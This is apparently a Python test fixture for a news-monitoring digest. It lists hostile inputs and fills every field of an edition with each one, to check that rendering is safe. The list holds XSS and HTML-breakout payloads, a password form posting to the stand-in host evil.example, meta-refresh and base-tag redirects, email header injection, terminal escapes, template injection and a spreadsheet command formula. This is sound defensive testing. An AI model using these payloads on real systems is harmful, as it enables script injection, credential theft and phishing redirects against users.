"""What a hostile feed, header or model may bring, and an edition that is full of it."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

from monitor.model.edition import (
    Changed,
    Development,
    Document,
    Edition,
    Lead,
    NearlyMatched,
    Quote,
    RankPart,
    Reason,
    Section,
    Summary,
    Trouble,
    Volume,
)
from tests.digests.builders import UNTIL, a_card, a_coverage, an_edition

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title></style><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" style="position:fixed;inset:0" x="',
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "</a></h3></article></main></body>",
    "--></style><!--<base href=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7*7 }}{% raw %}{{ say.__class__ }}",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "](https://evil.example) [a",
    "<https://evil.example>",
    "[a]: https://evil.example",
    "```\n<script>alert(1)</script>\n```",
    "`code` ``more`",
    "# heading\n## another\n---\n| a | b |\n|---|---|",
    "- list\n1. list\n> quote\n\n    code",
    "1) list",
    "***\n___",
    "\\[x](javascript:alert(1))",
    "~~x~~ $x$ ^x^ **x** __x__",
    "Subject\r\nBcc: everyone@evil.example\r\n\r\nbody",
    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
    "\x00\x08\x7f\x9b\ud800\udfff",
    "\u202emoc.live\u2066\u2067\u200f",
    "=cmd|'/C calc'!A0",
    "\u2028line\u2029paragraph\x85next",
    "x" * 20_000,
    "<b>" * 5_000,
)


def filled(text: str) -> Edition:
    """An edition in which every field a feed, its headers or a model can fill holds the text."""
    card = replace(
        a_card(
            title=text,
            url=text,
            outlet=text,
            excerpt=text,
            language=text,
            outlets=(text, text, text),
            why=(Reason("chips", 2, text, text, "title"), Reason("ai-policy", 1, text, text, text)),
        ),
        rank=(RankPart("points", 1.0),),
        document=Document(13, text, text, text),
        summary=Summary(text, text, 1),
        topic_title=text,
    )
    trouble = Trouble(text, text, "failing", text, UNTIL)
    edition = an_edition(
        card,
        title=text,
        coverage=a_coverage(stories=1, matched=1, troubles=(trouble,)),
        sections=(
            Section(topic="chips", title=text, cards=(card,), more=3),
            Section(topic="", title=text, cards=(card,), more=3, query=text),
        ),
        quiet=(text,),
    )
    return replace(
        edition,
        leads=(Lead(7, text, text, text, 2, text, text),),
        developing=(Development(card, (text, text), text, date(2026, 11, 21)),),
        more_developing=2,
        documents=(card,),
        more_documents=2,
        quotes=(Quote(text=text, speaker=text, outlet=text, url=text, entry=1, story=7, language=text),),
        changed=(
            Changed(kind="edited", entry=2, title=text, before=text, outlet=text, url=text, at=UNTIL,
                    told_in=text, language=text),
        ),
        more_changed=2,
        volumes=(
            Volume(topic="chips", title=text, count=9, span=1, low=0, high=2, days=(0, 9), unusual="many",
                   chance=0.001),
        ),
        near_misses=(
            NearlyMatched(entry=3, topic="chips", topic_title=text, title=text, outlet=text, url=text, note=text,
                          language=text),
        ),
        notes=(text,),
        page_url=text,
    )  # fmt: skip
